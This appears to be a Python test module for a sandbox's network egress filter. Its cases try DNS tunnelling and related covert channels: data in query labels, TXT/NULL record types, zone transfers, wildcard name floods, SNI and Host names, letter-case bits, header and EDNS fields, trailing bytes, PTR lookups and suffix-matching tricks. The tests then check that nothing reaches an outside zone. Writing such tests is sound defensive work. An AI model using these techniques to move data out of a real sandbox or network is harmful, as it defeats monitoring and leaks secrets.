"""Data that leaves in questions: whoever runs a zone reads what it is asked."""

from collections.abc import Iterator
from itertools import groupby

from attack.case import Group, case
from attack.lab import LAB, an_allowed_lookup_is_answered, name_of, run, token_of
from attack.scene import Rules, Scene
from attack.world import ALLOWED, APEX, BELOW, DENIED_ZONE

NAMES_AN_HOUR_MAX = 256
"""What a wildcard may give a box; more makes a tunnel of it."""
TRIED = 300
_SPENT, _SPENT_BY_HANDSHAKES, _SPARED = "spent.example.com", "shaken.example.com", "spared.example.com"
_BUDGET_RULES = Rules(names=(ALLOWED.name, *(f"*.{zone}" for zone in (_SPENT, _SPENT_BY_HANDSHAKES, _SPARED))))


def a_few_names_of_a_wildcard_work(scene: Scene) -> bool:
    """The twin of using a wildcard up."""
    name = scene.fresh_name(_SPARED)
    scene.internet.set_records(name, addresses=(BELOW.address4,))
    return run(scene, f"print(*lookup('{name}'))", box=scene.box_under(_BUDGET_RULES)).split() == [BELOW.address4]


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def labels_of_a_denied_zone_carry_nothing_out(scene: Scene) -> Iterator[str]:
    """DNS tunnelling as iodine and dnscat2 do it: data in the labels of a zone whose owner reads the questions.

    The way out of many a sandbox that filters TCP and lets port 53 pass to "its own" resolver, which forwards it.
    """
    name = scene.fresh_name(DENIED_ZONE)
    data = ".".join(["d" * 50] * 3)
    run(
        scene,
        f"""
        for server in resolvers():
            queries = [dns_query(f"{data[:150]}.{{n}}.{name}", type_) for n in range(3) for type_ in (1, 28, 16)]
            ask_all(queries, server)
            ask_tcp(b"".join(struct.pack("!H", len(query)) + query for query in queries), server)
        lookup("{name}")
        """,
    )
    yield from scene.dns_messages_with(token_of(name))


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def record_types_that_carry_data_do_not_reach_an_allowed_zone(scene: Scene) -> Iterator[str]:
    """The fast lane of DNS tunnels: TXT, NULL, MX, SRV, CNAME and private types below a wildcard that is allowed.

    An address answer carries 4 or 16 chosen bytes, a TXT or NULL answer 64 KiB. A filter that looks at the name alone
    (dnsmasq with nftset, most FQDN policies) forwards every type.
    """
    name = name_of(scene)
    types = [2, 5, 6, 10, 12, 13, 15, 16, 29, 33, 35, 37, 39, 43, 46, 48, 52, 61, 64, 65, 99, 249, 255, 256, 257, 65399]
    run(
        scene,
        f"""
        queries = [dns_query("{name}", type_) for type_ in {types}]
        ask_all(queries)
        ask_tcp(b"".join(struct.pack("!H", len(query)) + query for query in queries))
        """,
    )
    yield from scene.queries_for(name)


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def zone_transfers_do_not_leave(scene: Scene) -> Iterator[str]:
    """AXFR and IXFR (RFC 5936, RFC 1995): a whole zone in one answer is the widest channel that DNS has."""
    name = name_of(scene)
    run(
        scene,
        f"""
        for type_ in (251, 252):
            query = dns_query("{name}", type_)
            ask(query, wait_s=0.3)
            ask_tcp(struct.pack("!H", len(query)) + query)
        """,
    )
    yield from scene.queries_for(name)


@case(Group.DNS, control=a_few_names_of_a_wildcard_work)
def a_wildcard_gives_no_more_than_its_hourly_names(scene: Scene) -> Iterator[str]:
    """Tunnelling through what is allowed: with a wildcard on a zone of the attacker, each new name is a message.

    No filter by names can close this; it can make it too narrow to be of use.
    """
    run(
        scene,
        f"""
        queries = [dns_query(f"data{{number}}.{_SPENT}") for number in range({TRIED})]
        for start in range(0, {TRIED}, 50):
            ask_all(queries[start:start + 50], wait_s=0.3)
        """,
        box=scene.box_under(_BUDGET_RULES),
    )
    names = {query.name for query in scene.journal().queries if query.name.endswith(_SPENT)}
    if len(names) > NAMES_AN_HOUR_MAX:
        yield f"{len(names)} names reached the owner of {_SPENT}"


@case(Group.DNS, control=a_few_names_of_a_wildcard_work)
def names_in_handshakes_and_requests_count_like_lookups(scene: Scene) -> Iterator[str]:
    """A second door to the same tunnel: a proxy that resolves the SNI or Host itself asks whatever the box spells there.

    A budget that is kept by the DNS server alone is not kept at all.
    """
    scene.internet.set_records(f"*.{_SPENT_BY_HANDSHAKES}", addresses=(APEX.address4,))
    run(
        scene,
        f"""
        lookup("{ALLOWED.name}")
        # The far side makes a certificate for each name, which takes it long; so most are named in requests.
        for number in range({TRIED}):
            port, data = 80, f"GET / HTTP/1.1\\r\\nHost: h{{number}}.{_SPENT_BY_HANDSHAKES}\\r\\n\\r\\n".encode()
            if number % 8 == 0:
                port, data = 443, client_hello(f"s{{number}}.{_SPENT_BY_HANDSHAKES}")
            with refused(), socket.create_connection(("{ALLOWED.address4}", port), 2) as flow:
                flow.settimeout(2)
                flow.sendall(data)
                flow.recv(100)
        """,
        box=scene.box_under(_BUDGET_RULES),
    )
    journal = scene.journal()
    names = {query.name for query in journal.queries}
    names |= {connection.server_name or "" for connection in journal.connections}
    names |= {request.split("/")[2] for connection in journal.connections for request in connection.requests}
    told = {name for name in names if name.endswith(_SPENT_BY_HANDSHAKES)}
    if len(told) > NAMES_AN_HOUR_MAX:
        yield f"{len(told)} names below {_SPENT_BY_HANDSHAKES} reached the far side"


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def the_case_of_letters_carries_nothing(scene: Scene) -> Iterator[str]:
    """0x20 bits (draft-vixie-dnsext-dns0x20): upper and lower case of an allowed name, a hundred bits in each question."""
    names = [name_of(scene) for _ in range(2)]
    asked = ["".join(c.upper() if i % 2 else c for i, c in enumerate(name)) for name in names]
    run(scene, f"ask_all([dns_query(name) for name in {asked}])")
    for spelled in asked:
        # The whole name: its own label alone may be, by chance, one that this spelling leaves as it is.
        question = b"".join(bytes([len(label)]) + label.encode() for label in spelled.split("."))
        yield from (f"{q.message!r}" for q in scene.journal().queries if question in q.message)


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def nothing_but_the_name_tells_one_question_from_another(scene: Scene) -> Iterator[str]:
    """Header bits, ids, EDNS sizes, DO, CD and AD as a channel: what a forwarder copies, the box can write with.

    A forwarder that passes queries on as they came (most do) gives away some forty bits beside each name.
    """
    names = [name_of(scene) for _ in range(9)]
    run(
        scene,
        f"""
        one, two, three, four, five, six, seven, eight, nine = {names}
        ask_all([
            message(question(one), number=0x4F47),
            message(question(two), number=0x4F47, flags=0x0110),
            message(question(three), number=0x4F47, flags=0x0130),
            message(question(four), flags=0x0000),
            message(question(five), flags=0x0340),
            message(question(six) + opt(udp_bytes=4242), counts=(1, 0, 0, 1)),
            message(question(seven) + opt(flags=0x8000), counts=(1, 0, 0, 1)),
            message(question(eight) + opt(flags=0x1234), counts=(1, 0, 0, 1)),
            message(question(nine), flags=0x018F),
        ])
        """,
    )
    queries = [query for query in scene.journal().queries if query.name in names]
    shapes = [query.message[2:12] + query.message[12 + len(query.name) + 2 :] for query in queries]
    if len(set(shapes)) > 1:
        yield f"{len(set(shapes))} kinds of questions: {sorted(set(shapes))}"
    ids = [query.message[:2] for query in queries]
    yield from (
        f"the id {number!r} came {len(list(same))} times" for number, same in groupby(sorted(ids)) if number == b"OG"
    )


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def edns_options_carry_nothing(scene: Scene) -> Iterator[str]:
    """Options that ride along with an allowed name: cookies, client subnet, padding, NSID, unknown and local ones.

    Client subnet (RFC 7871) alone is 16 bytes of the client's choosing, passed on up to the zone's owner.
    """
    names = [name_of(scene) for _ in range(5)]
    options = {10: "6f7574676174652d", 8: "00018000", 12: "", 3: "", 65001: ""}
    run(
        scene,
        f"""
        queries = []
        for name, (number, start) in zip({names}, {options}.items()):
            body = question(name) + opt(option(number, bytes.fromhex(start) + b"smuggled-secret"))
            queries.append(message(body, counts=(1, 0, 0, 1)))
        ask_all(queries)
        ask_tcp(b"".join(struct.pack("!H", len(query)) + query for query in queries))
        """,
    )
    yield from scene.dns_messages_with(b"smuggled-secret")


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def bytes_behind_the_question_carry_nothing(scene: Scene) -> Iterator[str]:
    """Trailing bytes: a parser that stops after the question passes on whatever stands behind it."""
    names = [name_of(scene) for _ in range(2)]
    run(
        scene,
        f"""
        queries = [dns_query(name) + b"smuggled-behind" for name in {names}]
        ask_all(queries, wait_s=0.5)
        ask_tcp(b"".join(struct.pack("!H", len(query)) + query for query in queries))
        """,
    )
    yield from scene.dns_messages_with(b"smuggled-behind")


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def reverse_lookups_carry_nothing(scene: Scene) -> Iterator[str]:
    """PTR questions: 16 bytes of data spelled as an IPv6 address below ip6.arpa, which many filters leave alone.

    The owner of an address block is asked for its reverse zone, so anybody with a /48 can read along.
    """
    digits = "0123456789abcdef"
    spelled = ".".join(reversed(digits + digits))
    run(
        scene,
        f"""
        queries = [dns_query(f"{spelled}.ip6.arpa", 12), dns_query("9.8.7.6.in-addr.arpa", 12)]
        ask_all(queries, wait_s=0.5)
        with refused():
            socket.gethostbyaddr("2a0f:4444:1234::1")
        """,
    )
    yield from scene.queries_for("arpa")


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def names_without_a_dot_carry_nothing(scene: Scene) -> Iterator[str]:
    """Single labels and whole top-level domains: questions that go to the root servers or to a search domain's owner."""
    name = scene.fresh_name("local").split(".")[0]
    run(
        scene,
        f"""
        ask_all([dns_query(n, t) for n in ("{name}", "www.{name}", "{name}.local", "{name}.internal") for t in (1, 2)])
        lookup("{name}")
        """,
    )
    yield from scene.dns_messages_with(name.encode())


@case(Group.DNS, control=an_allowed_lookup_is_answered)
def a_zone_that_only_ends_like_an_allowed_one_is_not_asked(scene: Scene) -> Iterator[str]:
    """Matching by text instead of by label: ``evil-lab.example.com`` ends in ``lab.example.com``, and is somebody else's.

    The oldest bug of suffix lists; CVE-2026-24052 is its mirror image, a trusted prefix.
    """
    token = scene.fresh_name().split(".")[0]
    run(
        scene,
        f"""
        names = ["{token}-{LAB}", "{token}{LAB}", "{token}{ALLOWED.name}", "{ALLOWED.name}.{token}.{DENIED_ZONE}",
                 "{token}.{LAB}.{DENIED_ZONE}", "{token}.{LAB}net", "{token}.{ALLOWED.name}"]
        ask_all([dns_query(name) for name in names])
        """,
    )
    yield from scene.dns_messages_with(token.encode())
